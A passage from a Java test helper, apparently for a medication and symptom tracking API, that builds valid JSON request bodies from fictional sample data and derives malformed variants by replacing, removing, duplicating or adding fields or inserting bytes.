        final List<Field> fields;

        Endpoint(String method, String target, List<Field> fields) {
            this.method = method;
            this.target = target;
            this.fields = fields;
        }

        /** Patient apps post events, care teams events and profiles: both send event bodies. */
        Auth auth(Random random) {
            return this == PROFILE || random.nextBoolean() ? Auth.CARE_TEAM : Auth.PATIENT_APP;
        }

        ObjectNode base() {
            String now = OffsetDateTime.now(ZoneOffset.ofHours(1)).minusHours(1).truncatedTo(ChronoUnit.SECONDS)
                    .toString();
            String json = switch (this) {
                case DOSE -> dose(now);
                case SYMPTOM -> symptom(now);
                case BATCH -> "{\"doses\":[" + dose(now) + "],\"symptoms\":[" + symptom(now) + "]}";
                case PROFILE -> """
                        {"birthDate": "1979-03-14", "timeZone": "Europe/Berlin",
                         "careTeam": [{"name": "Dr. Rivera", "email": "neuro@clinic.example", "role": "PHYSICIAN"},
                                      {"name": "Sam", "email": "sam@family.example", "role": "CAREGIVER"}],
                         "prescriptions": [{"drug": "baclofen", "doseMg": 10, "timesPerDay": 3,
                                            "startDate": "2026-11-01", "endDate": "2026-12-31"}],
                         "conditions": ["EPILEPSY"], "coMedications": ["OPIOID"]}""";
            };
            return (ObjectNode) ContractJson.mapper().readTree(json);
        }

        private static String dose(String now) {
            return "{\"eventId\":\"" + UUID.randomUUID() + "\",\"drug\":\"baclofen\",\"doseMg\":10,\"takenAt\":\""
                    + now + "\"}";
        }

        private static String symptom(String now) {
            return "{\"eventId\":\"" + UUID.randomUUID() + "\",\"symptoms\":[\"DIZZINESS\"],\"observedAt\":\"" + now
                    + "\",\"note\":\"since noon\"}";
        }

        String valid() {
            return ContractJson.mapper().writeValueAsString(base());
        }

        /** The JSON of the value at a path of a valid body. */
        String node(String path) {
            return ContractJson.mapper().writeValueAsString(at(base(), path).get());
        }

        /** A valid body with the value at {@code path} replaced by {@code rawJson}, any text. */
        byte[] replace(String path, String rawJson) {
            ObjectNode body = base();
            at(body, path).set(StringNode.valueOf(MARK));
            return withMark(body, rawJson);
        }

        byte[] remove(String path) {
            ObjectNode body = base();
            at(body, path).remove();
            return ContractJson.mapper().writeValueAsBytes(body);
        }

        /** The field at {@code path} given twice: with its own value again, or with {@code second}. */
        byte[] duplicate(String path, String second) {
            ObjectNode body = base();
            Slot slot = at(body, path);
            String value = ContractJson.mapper().writeValueAsString(slot.get());
            if (slot.name() == null) {
                // an element of a list: the list's own key given twice
                return duplicate(path.substring(0, path.lastIndexOf('[')), second);
            }
            slot.set(StringNode.valueOf(MARK));
            return withMark(body, value + ",\"" + slot.name() + "\":" + (second == null ? value : second));
        }

        /** A valid body with one more field in the object at {@code objectPath} ("" for the body itself). */
        byte[] addField(String objectPath, String name, String rawJson) {
            ObjectNode body = base();
            ObjectNode object = objectPath.isEmpty() ? body : (ObjectNode) at(body, objectPath).get();
            object.put(name, MARK);
            return withMark(body, rawJson);
        }

        /** A valid body with {@code bytes} inside the text at {@code path}, at a random place of it. */
        byte[] insertBytes(String path, byte[] bytes, Random random) {
            ObjectNode body = base();
            Slot slot = at(body, path);
            String text = slot.get().asString();
            int at = random.nextInt(text.length() + 1);
            slot.set(StringNode.valueOf(text.substring(0, at) + MARK + text.substring(at)));
            byte[] json = ContractJson.mapper().writeValueAsBytes(body);
            byte[] mark = MARK.getBytes(StandardCharsets.UTF_8);
            int index = indexOf(json, mark);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            out.write(json, 0, index);
            out.writeBytes(bytes);
            out.write(json, index + mark.length, json.length - index - mark.length);
            return out.toByteArray();
        }

        private static byte[] withMark(ObjectNode body, String rawJson) {
            String json = ContractJson.mapper().writeValueAsString(body);
            return json.replace("\"" + MARK + "\"", rawJson).getBytes(StandardCharsets.UTF_8);
        }

        private static int indexOf(byte[] bytes, byte[] part) {
            outer:
            for (int i = 0; i + part.length <= bytes.length; i++) {
                for (int j = 0; j < part.length; j++) {
                    if (bytes[i + j] != part[j]) {
                        continue outer;
                    }
                }
                return i;
            }
            throw new IllegalStateException("no mark");
        }

        /** The place of a value in a body: {@code a.b[1].c}. */
        private static Slot at(ObjectNode body, String path) {
            JsonNode parent = body;
            String[] steps = path.split("\\.");
            for (int i = 0; i < steps.length; i++) {
                String step = steps[i];
                String name = step.contains("[") ? step.substring(0, step.indexOf('[')) : step;
                Integer index = step.contains("[") ? Integer.valueOf(step.substring(step.indexOf('[') + 1,
                        step.indexOf(']'))) : null;
                boolean last = i == steps.length - 1;
                if (index == null) {
                    if (last) {
                        return new Slot((ObjectNode) parent, name, null, -1);
                    }
                    parent = parent.get(name);
                }
                else {
                    ArrayNode list = (ArrayNode) parent.get(name);
                    if (last) {
                        return new Slot(null, null, list, index);
                    }
                    parent = list.get(index);
                }
            }
            throw new IllegalArgumentException(path);
        }
    }

    /** A field of an object or an element of a list. */
    private record Slot(ObjectNode object, String name, ArrayNode list, int index) {

        JsonNode get() {
            return object != null ? object.get(name) : list.get(index);
        }

        void set(JsonNode value) {
            if (object != null) {
                object.set(name, value);
            }
            else {
                list.set(index, value);
            }
        }

        void remove() {
            if (object != null) {
                object.remove(name);
            }
            else {
                list.remove(index);
            }
        }
    }
}
